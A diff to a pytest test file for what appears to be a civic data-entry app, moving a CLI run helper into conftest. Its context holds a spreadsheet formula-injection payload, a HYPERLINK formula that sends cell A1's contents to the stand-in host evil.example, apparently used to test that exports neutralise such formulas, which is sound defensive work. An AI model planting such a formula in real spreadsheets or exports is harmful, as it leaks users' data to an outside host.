@@ -14,11 +14,11 @@ from pathlib import Path
 
 import pytest
 from conftest import DATA, prepared
+from conftest import run_civic as run
 from test_data_entry_app import signed_in_app
 from test_intake import GOOD, GOOD2, HEADER, csv_bytes
 
 from civic import accounts, database, history, reads, store
-from civic.cli import main
 from civic.text import FORMULA_START
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"点击")'
@@ -32,12 +32,6 @@ def url(tmp_path, capsys) -> str:
         pass
     capsys.readouterr()
     return found
-
-
-def run(capsys, *argv: str) -> tuple[int, str, str]:
-    code = main(list(argv))
-    out, err = capsys.readouterr()
-    return code, out, err
 
 
 def cells(text: str) -> list[str]:
